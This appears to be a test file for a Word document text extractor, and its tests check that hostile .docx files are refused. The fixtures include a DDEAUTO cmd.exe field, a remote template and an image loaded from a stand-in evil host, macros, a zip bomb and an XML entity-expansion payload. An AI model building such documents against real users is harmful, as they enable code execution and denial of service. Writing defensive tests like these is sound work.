import { linesOf } from '@haoshangliang/shared/documents';
import { strToU8, zipSync } from 'fflate';
import { describe, expect, test } from 'vitest';
import { paperDocx } from '../../papers/docx/paper-docx.ts';
import { liftInReview } from '../../testing/lift-print.ts';
import { printedPaper } from '../printed.ts';
import { readWord } from './read-word.ts';
import { frameOf, textWithin } from './text-within.ts';

const uri = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main';
const types =
  '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>';

type Parts = Readonly<Record<string, string | Uint8Array>>;

/** A Word document with this body. */
function word(body: string, others: Parts = {}): Uint8Array {
  const document = `<w:document xmlns:w="${uri}"><w:body>${body}</w:body></w:document>`;
  const parts = { '[Content_Types].xml': types, 'word/document.xml': document, ...others };
  return zipSync(
    Object.fromEntries(
      Object.entries(parts).map(([name, part]) => [
        name,
        typeof part === 'string' ? strToU8(part) : part,
      ]),
    ),
  );
}

const run = (text: string) => `<w:r><w:t xml:space="preserve">${text}</w:t></w:r>`;
const p = (inside: string, properties = '') =>
  `<w:p>${properties === '' ? '' : `<w:pPr>${properties}</w:pPr>`}${inside}</w:p>`;
const texts = (bytes: Uint8Array) => readWord(bytes).taken.map(({ text }) => text);
const whyOf = (bytes: Uint8Array) => {
  try {
    return texts(bytes);
  } catch (error) {
    return (error as Error).message;
  }
};

describe('a document that this program has made', () => {
  test('reads as the text it was made from, and nothing that stands around it', async () => {
    // On its way through the house it has a sheet before it.
    const print = { ...liftInReview(), seal: null };
    const paper = printedPaper(print);
    expect(paper.cover).toBeDefined();
    const { taken, found } = readWord(await paperDocx(paper));
    const { lines, isWhole } = textWithin(taken, frameOf(paper));
    const plain = (text: string) => text.replace(/\s+/g, ' ');
    const wanted = print.doc.content.flatMap(linesOf).map(plain);
    expect(lines.map(({ text }) => plain(text))).toEqual(wanted);
    expect(isWhole).toBe(true);
    expect(Object.values(found).every((count) => count === 0)).toBe(true);
    expect(lines.find(({ text }) => text === '协商议题')?.kind).toBe('first');
    expect(lines.find(({ text }) => text === '业主发言')?.kind).toBe('second');
    expect(lines.find(({ text }) => text.startsWith('采用玻璃井道'))?.kind).toBe('item');
  });
});

describe('what was done in Word', () => {
  test('tracked changes read as accepted, and are counted', () => {
    const by = 'w:id="1" w:author="x" w:date="2026-01-01T00:00:00Z"';
    const { taken, found } = readWord(
      word(
        p(
          `${run('补偿')}<w:del ${by}><w:r><w:delText>一万</w:delText></w:r></w:del><w:ins ${by}>${run('两万')}</w:ins>${run('元')}`,
        ) +
          p(run('前半，'), `<w:rPr><w:del ${by}/></w:rPr>`) +
          p(
            run('后半'),
            `<w:pPrChange ${by}><w:pPr><w:pStyle w:val="old"/></w:pPr></w:pPrChange>`,
          ) +
          p(
            `<w:moveFrom ${by}>${run('搬走')}</w:moveFrom><w:moveTo ${by}>${run('搬来')}</w:moveTo>`,
          ),
      ),
    );
    expect(taken.map(({ text }) => text)).toEqual(['补偿两万元', '前半，后半', '搬来']);
    expect(found).toMatchObject({ insertions: 2, deletions: 3 });
  });

  test('comments, links, pictures, footnotes and fields: words stay, the rest is counted', () => {
    const { taken, found } = readWord(
      word(
        p(
          `<w:commentRangeStart w:id="0"/>${run('甲')}<w:commentRangeEnd w:id="0"/><w:r><w:commentReference w:id="0"/></w:r><w:hyperlink>${run('乙')}</w:hyperlink><w:r><w:footnoteReference w:id="2"/></w:r><w:r><w:drawing><w:txbxContent>${p(run('框里'))}</w:txbxContent></w:drawing></w:r><w:r><w:instrText>DDEAUTO c:\\cmd.exe</w:instrText></w:r>`,
        ).concat(`<w:tbl><w:tr><w:tc>${p(run('表里'))}</w:tc></w:tr></w:tbl>`),
        { 'word/comments.xml': '<w:comments/>' },
      ),
    );
    expect(taken.map(({ text }) => text)).toEqual(['甲乙']);
    expect(found).toMatchObject({ comments: 1, links: 1, footnotes: 1, pictures: 1 });
  });

  test('styles are known by name, whatever ids a program gave them; without them all is text', () => {
    const styles = `<w:styles xmlns:w="${uri}"><w:style w:styleId="a7"><w:name w:val="纪要标题"/></w:style><w:style w:styleId="a8"><w:name w:val="纪要一级标题"/></w:style><w:style w:styleId="a9"><w:name w:val="纪要出席名单"/></w:style></w:styles>`;
    const style = (id: string) => `<w:pStyle w:val="${id}"/>`;
    const body =
      p(run('某某纪要'), style('a7')) +
      p(run('议题'), style('a8')) +
      p(run('第一句。')) +
      p(run('2026')) +
      p(run('（本纪要依据会议记录第1条至第99条形成）')) +
      p(run('出席：甲'), style('a9')) +
      p(run('后面的'));
    // A paper without a number has an empty line there; a line of figures is text all the same.
    const frame = ['', '（本纪要依据会议记录第1条至第7条形成）'];
    const styled = textWithin(readWord(word(body, { 'word/styles.xml': styles })).taken, frame);
    expect(styled.isWhole).toBe(true);
    expect(styled.lines).toEqual([
      { kind: 'first', text: '议题' },
      { kind: 'body', text: '第一句。' },
      { kind: 'body', text: '2026' },
    ]);
    const bare = textWithin(readWord(word(body)).taken, frame);
    expect(bare.isWhole).toBe(false);
    expect(bare.lines).toHaveLength(6);
  });
});

describe('made to hurt', () => {
  const external = (type: string) =>
    `<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="http://evil.example/x" TargetMode="External"/></Relationships>`;
  const ordinary = p(run('正文'));
  const cases: readonly [string, Uint8Array, string][] = [
    ['macros', word(ordinary, { 'word/vbaProject.bin': 'x' }), 'word-macros'],
    [
      'macros that only the types tell',
      word(ordinary, {
        '[Content_Types].xml': types.replace('wordprocessingml.document', 'macroEnabled'),
      }),
      'word-macros',
    ],
    [
      'a template from elsewhere',
      word(ordinary, { 'word/_rels/settings.xml.rels': external('attachedTemplate') }),
      'word-loads',
    ],
    [
      'a picture from elsewhere',
      word(ordinary, { 'word/_rels/document.xml.rels': external('image') }),
      'word-loads',
    ],
    [
      'a zip bomb',
      word(ordinary, { 'word/styles.xml': new Uint8Array(64 * 1024 * 1024) }),
      'word-too-much',
    ],
    ['a text without end', word(p(run('长'.repeat(300_000)))), 'word-too-much'],
    ['paragraphs without end', word(p(run('段')).repeat(4000)), 'word-too-much'],
    ['elements without end', word('<w:sdt>'.repeat(5000)), 'word-too-much'],
    [
      'entities that grow',
      word('', {
        'word/document.xml': `<!DOCTYPE d [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><w:document xmlns:w="${uri}"><w:body>${p(run('&b;'))}</w:body></w:document>`,
      }),
      'word-damaged',
    ],
    ['half a file', word(ordinary).slice(0, 200), 'word-damaged'],
    ['broken XML', word('<w:p><w:r>'), 'word-damaged'],
    ['an old or protected document', new Uint8Array([0xd0, 0xcf, 0x11, 0xe0, 0, 0]), 'word-old'],
    ['a picture', new Uint8Array([0xff, 0xd8, 0xff, 0xe0]), 'word-other-kind'],
    ['another zip', zipSync({ 'a.txt': strToU8('a') }), 'word-other-kind'],
    ['nothing', new Uint8Array(0), 'word-other-kind'],
  ];
  test.each(cases)('%s is refused', (_what, bytes, why) => {
    expect(whyOf(bytes)).toBe(why);
  });

  test('a link that has to be pressed is words, and controls are taken out', () => {
    const body = p(run('见\u007f网站'));
    const links = { 'word/_rels/document.xml.rels': external('hyperlink') };
    expect(whyOf(word(body, links))).toEqual(['见网站']);
  });
});
